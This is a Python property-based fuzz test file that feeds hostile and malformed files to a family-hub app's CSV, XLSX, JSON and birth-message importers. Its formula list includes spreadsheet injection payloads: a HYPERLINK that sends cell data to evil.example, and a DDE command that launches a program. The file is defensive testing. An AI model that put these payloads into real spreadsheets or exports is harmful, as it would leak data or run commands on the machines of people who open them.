"""Every importer fed hostile files by hypothesis: malformed encodings (UTF-16, Latin-1, cut
UTF-8, random bytes, a NUL), huge cells, formula injection, missing, extra, repeated and blank
columns, ragged rows, broken and real XLSX. The only way an importer may refuse a file is its
own error with a message (people: ImportFileError; EYFSP: a problem by row and field; NEMS
birth messages: Unreadable); anything else is an unhandled exception and fails the test.

The importers: the people CSV/XLSX import (familyhub import people, the upload page: read_rows,
the column check and every row's checks, then prepare_import and run_import into the
database), the EYFSP import (familyhub import-eyfsp), the Fingertips area figures
(import-area-figures), the maternity smoking records (import-maternity-smoking), the directory's
Open Referral UK feeds (a feed file's reading and every service record's checks, then the
apply into the database) and the NEMS birth notification reader.

Examples per importer: FUZZ_EXAMPLES (default 400 for the reading and checking, a tenth of that
for the imports that write to the database), about 30 s in all here. The figure of the issue,
10,000 files, is a benchmark: FUZZ_EXAMPLES=10000 pytest familyhub/tests/test_fuzz_importers.py -s
prints how many files each importer was given."""

from __future__ import annotations

import csv
import datetime
import io
import json
import os
from collections import Counter

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from familyhub.outcomes.eyfsp import import_rows
from familyhub.outcomes.models import EARLY_LEARNING_GOALS
from familyhub.people import importing
from familyhub.people.models import Person
from familyhub.services.models import ServiceKind
from familyhub.testing import factories

EXAMPLES = int(os.environ.get("FUZZ_EXAMPLES", "400"))
DB_EXAMPLES = max(10, EXAMPLES // 10)
FILES: Counter[str] = Counter()

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+44 7700 900123",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "'=1",
]
PEOPLE_COLUMNS = [name for names in importing.FIELDS.values() for name in names[:2]]
GOAL_COLUMNS = [name for _code, name, _area, _gld in EARLY_LEARNING_GOALS] + [
    "upn",
    "given_name",
    "family_name",
    "date_of_birth",
    "gld",
    "school",
]
GOAL_VALUES = ["expected", "emerging", "X", "E", "2", "1", "", "maybe"]

small_text = st.text(max_size=30)
# Up to 160,000 characters: past the csv module's 131,072 limit sometimes.
huge_cell = st.builds(
    lambda s, n: s * n, st.text(min_size=1, max_size=8), st.integers(1_000, 20_000)
)
cell = st.one_of(
    small_text,
    small_text,
    small_text,
    st.sampled_from(FORMULAS),
    st.sampled_from(FORMULAS),
    st.sampled_from(["2019-02-29", "31/12/2020", "1900-01-01", "9999-99-99", "01/02/03"]),
    st.sampled_from(["9434765919", "943 476 5919", "0000000000", "12345", "RM17 5DQ", "ZZ99 9ZZ"]),
    st.sampled_from(GOAL_VALUES),
    huge_cell,
)


def header_from(known: list[str]):
    """Some of the known columns (perhaps none, perhaps repeated) and some made up, any order."""
    return st.lists(st.one_of(st.sampled_from(known), small_text), min_size=0, max_size=12)


def table(known: list[str]):
    return header_from(known).flatmap(
        lambda header: st.lists(
            st.lists(cell, min_size=0, max_size=len(header) + 2), min_size=0, max_size=5
        ).map(lambda rows: [header, *rows])
    )


def csv_bytes(rows: list[list[str]], encoding: str) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode(encoding, errors="replace")


def xlsx_bytes(rows: list[list[str]]) -> bytes:
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    sheet = book.create_sheet()
    for row in rows:
        # openpyxl refuses control characters in cells, as Excel does: leave them out.
        sheet.append(["".join(ch for ch in c if ch >= " " or ch in "\t\n")[:32_000] for c in row])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def mutate(data: bytes, cuts: list[int], flips: list[tuple[int, int]]) -> bytes:
    """Cut the file short and change some of its bytes (a file broken in transit)."""
    out = bytearray(data)
    for position, value in flips:
        if out:
            out[position % len(out)] = value
    for cut in cuts:
        out = out[: cut % (len(out) + 1)]
    return bytes(out)


def files(known: list[str]):
    encodings = st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "latin-1", "cp1252", "ascii"])
    as_csv = st.builds(
        lambda rows, enc: ("people.csv", csv_bytes(rows, enc)), table(known), encodings
    )
    as_xlsx = table(known).map(lambda rows: ("people.xlsx", xlsx_bytes(rows)))
    broken = st.builds(
        lambda named, cuts, flips: (named[0], mutate(named[1], cuts, flips)),
        st.one_of(as_csv, as_xlsx),
        st.lists(st.integers(0, 10_000), max_size=1),
        st.lists(st.tuples(st.integers(0, 10_000), st.integers(0, 255)), max_size=4),
    )
    raw = st.builds(
        lambda name, data: (name, data),
        st.sampled_from(["x.csv", "x.xlsx", "x.xls", "x.txt", ""]),
        st.binary(max_size=300),
    )
    return st.one_of(as_csv, as_csv, as_xlsx, broken, raw)


FUZZ = settings(
    max_examples=EXAMPLES,
    deadline=None,
    database=None,
    suppress_health_check=list(HealthCheck),
)
FUZZ_DB = settings(FUZZ, max_examples=DB_EXAMPLES)


def read_people(name: str, data: bytes):
    """The upload page's and the command's reading: rows, the columns, every row's checks."""
    rows = importing.read_rows(name, data)
    mapping = importing.auto_mapping(rows[0])
    importing.check_mapping(rows[0], mapping)
    return rows, mapping, importing.check_rows(rows, mapping)


@given(named=files(PEOPLE_COLUMNS))
@FUZZ
def test_the_people_import_reads_and_checks_any_file_without_an_unhandled_error(named):
    FILES["people: read and checked"] += 1
    try:
        rows, _mapping, (good, bad) = read_people(*named)
    except importing.ImportFileError as error:
        assert str(error)
        return
    assert len(good) + len(bad) == len(rows) - 1
    for problem in bad:
        assert problem["row"] >= 2 and problem["errors"]


@pytest.mark.django_db
@given(named=files(PEOPLE_COLUMNS))
@FUZZ_DB
def test_the_people_import_stores_only_whole_checked_rows(named):
    FILES["people: imported"] += 1
    authority = factories.AuthorityFactory()
    user = factories.UserFactory()
    try:
        person_import = importing.prepare_import(
            authority=authority, by=user, filename=named[0], data=named[1]
        )
    except importing.ImportFileError:
        return
    before = Person.objects.count()
    done = importing.run_import(person_import, by=user)
    assert Person.objects.count() - before == done.created_count
    for person in Person.objects.filter(authority=authority):
        assert person.family_name and len(person.family_name) <= 100


@pytest.fixture
def eyfsp_world(db):
    # Function scope, inside the test's transaction (see figures_world).
    authority = factories.AuthorityFactory()
    service = factories.ServiceFactory(authority=authority, kind=ServiceKind.FAMILY_HUB)
    factories.PersonFactory(
        authority=authority,
        given_name="Ada",
        family_name="Lovelace",
        date_of_birth=datetime.date(2019, 12, 10),
        upn="A123456789012",
    )
    return authority, service


@pytest.mark.django_db
@given(named=files(GOAL_COLUMNS))
@FUZZ_DB
def test_the_eyfsp_import_reports_problems_by_row_and_field_never_an_error(named, eyfsp_world):
    FILES["EYFSP: imported"] += 1
    authority, service = eyfsp_world
    try:
        rows = importing.read_rows(*named)  # the command reads files the same way
    except importing.ImportFileError:
        return
    report = import_rows(rows, authority_id=authority.pk, year=2025, service=service, by=None)
    for row, field, message in report.problems:
        assert row >= 1 and field and message
    assert report.saved <= max(0, len(rows) - 1)


def nems_files():
    from familyhub.births import generator

    sample = generator.birth_message(
        mother=None,
        baby_nhs_number="9434765919",
        baby_given="Ada",
        baby_family="Lovelace",
        born=datetime.date(2026, 11, 30),
    )
    base = st.just(sample)
    return st.one_of(
        st.binary(max_size=400),
        st.builds(
            mutate,
            base,
            st.lists(st.integers(0, 100_000), max_size=1),
            st.lists(st.tuples(st.integers(0, 100_000), st.integers(0, 255)), max_size=6),
        ),
        st.sampled_from([b"<Bundle/>", b"{}", b"[]", b'{"resourceType":"Patient"}', b"\xff\xfe"]),
    )


@given(raw=nems_files())
@FUZZ
def test_the_birth_notification_reader_refuses_bad_messages_with_a_reason(raw):
    from familyhub.births import nems

    FILES["NEMS birth messages: parsed"] += 1
    try:
        nems.parse(raw)
    except nems.Unreadable as error:
        assert error.args


AREA_CODE = "E05099001"
AREA_COLUMNS = [
    "Indicator ID",
    "Indicator Name",
    "Area Code",
    "Area Name",
    "Area Type",
    "Category Type",
    "Time period",
    "Value",
    "Count",
    "Denominator",
    "Lower CI 95.0 limit",
]
AREA_VALUES = ["93085", "93579", "20401", "1", AREA_CODE, "E06000034", "2024/25", "2023", "12.5"]
MATERNITY_COLUMNS = [
    "nhs_number",
    "given_name",
    "family_name",
    "date_of_birth",
    "booking_date",
    "smoking_at_booking",
    "delivery_date",
    "smoking_at_delivery",
]
MATERNITY_VALUES = ["smoker", "non-smoker", "unknown", "ex smoker", "2026-03-01", "9434765919"]


def fixed_header_table(known: list[str], values: list[str]):
    """A file that has every known column (so the rows are read, not refused for the header),
    perhaps repeated and among made-up ones, with cells from the field's own vocabulary as well
    as hostile ones."""
    header = st.permutations(known).flatmap(
        lambda columns: st.lists(small_text, max_size=3).map(lambda extra: [*columns, *extra])
    )
    field_cell = st.one_of(cell, st.sampled_from(values), st.sampled_from(values))
    return header.flatmap(
        lambda names: st.lists(
            st.lists(field_cell, min_size=0, max_size=len(names) + 1), max_size=6
        ).map(lambda rows: [names, *rows])
    )


@pytest.fixture
def figures_world(db):
    # Function scope: made once per test (hypothesis's examples share it) inside the test's
    # transaction, so nothing outlives the test (a module-scoped council and ward stayed in the
    # database and broke the next test on the worker that counted areas).
    authority = factories.AuthorityFactory(code="E06000034")
    factories.AreaFactory(authority=authority, code=AREA_CODE)
    service = factories.ServiceFactory(authority=authority, kind=ServiceKind.HEALTH_VISITING)
    factories.PersonFactory(
        authority=authority,
        given_name="Ada",
        family_name="Lovelace",
        nhs_number="9434765919",
        date_of_birth=datetime.date(1990, 12, 10),
    )
    return authority, service


def _problems_are_named(problems, rows) -> None:
    for row, column, message in problems:
        assert 1 <= row <= max(1, len(rows)) and column and message


@pytest.mark.django_db
@given(rows=st.one_of(fixed_header_table(AREA_COLUMNS, AREA_VALUES), table(AREA_COLUMNS)))
@FUZZ_DB
def test_the_area_figures_import_reports_problems_by_row_and_column(rows, figures_world):
    from familyhub.outcomes.area_figures import import_rows as import_figures

    FILES["area figures: imported"] += 1
    authority, _service = figures_world
    report = import_figures(rows, authority=authority, source="fuzz")
    _problems_are_named(report.problems, rows)
    assert report.saved + report.left_out + len(report.problems) <= max(1, len(rows))


@pytest.mark.django_db
@given(
    rows=st.one_of(
        fixed_header_table(MATERNITY_COLUMNS, MATERNITY_VALUES), table(MATERNITY_COLUMNS)
    )
)
@FUZZ_DB
def test_the_maternity_import_reports_problems_by_row_and_column(rows, figures_world):
    from familyhub.outcomes.maternity import import_rows as import_maternity

    FILES["maternity smoking: imported"] += 1
    authority, service = figures_world
    report = import_maternity(rows, authority_id=authority.pk, service=service, by=None)
    _problems_are_named(report.problems, rows)
    assert report.saved + len(report.problems) <= max(1, len(rows))


# JSON as a feed might send it: any shape, with the Open Referral fields some of the time.
json_leaf = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-(2**40), 2**40),
    st.floats(allow_nan=True, allow_infinity=True),
    cell,
    st.sampled_from(["3f6c2e0a-6a1b-4c52-9d2e-7f1b2c3d4e5f", "not-a-uuid", "2026-02-30", "25:61"]),
)
ORUK_KEYS = [
    "id",
    "name",
    "description",
    "url",
    "email",
    "status",
    "minimum_age",
    "maximum_age",
    "organization",
    "service_at_locations",
    "location",
    "schedules",
    "contacts",
    "cost_options",
    "taxonomy_terms",
    "last_modified",
    "assured_date",
    "latitude",
    "longitude",
    "postal_code",
    "byday",
    "opens_at",
    "closes_at",
]
json_value = st.recursive(
    json_leaf,
    lambda children: st.one_of(
        st.lists(children, max_size=4),
        st.dictionaries(st.one_of(st.sampled_from(ORUK_KEYS), small_text), children, max_size=6),
    ),
    max_leaves=25,
)
service_record = st.dictionaries(
    st.one_of(st.sampled_from(ORUK_KEYS), small_text), json_value, max_size=12
)


@given(raw=service_record)
@FUZZ
def test_a_directory_record_is_refused_with_its_field_never_an_error(raw):
    from familyhub.directory import importing as directory

    FILES["directory records: checked"] += 1
    try:
        directory.parse_service(raw)
    except directory._Broken as broken:
        assert broken.field and broken.message


@pytest.mark.django_db
@given(
    data=st.one_of(
        st.binary(max_size=300),
        st.lists(service_record, max_size=4).map(
            lambda records: json.dumps({"contents": records}, default=str).encode()
        ),
    )
)
@FUZZ_DB
def test_a_directory_feed_file_is_read_or_refused_and_applied_whole(data, tmp_path_factory):
    from familyhub.directory import importing as directory
    from familyhub.directory.models import ImportStatus

    FILES["directory feeds: imported"] += 1
    path = tmp_path_factory.mktemp("feed") / "feed.json"
    path.write_bytes(data)
    authority = factories.AuthorityFactory()
    run = directory.run_import(
        directory.start_import(authority_id=authority.pk, source=str(path), name="fuzz")
    )
    assert run.status in (ImportStatus.FINISHED, ImportStatus.FAILED)
    assert run.report


def test_zz_report_how_many_files_each_importer_was_given():
    print("fuzzed files:", dict(FILES))
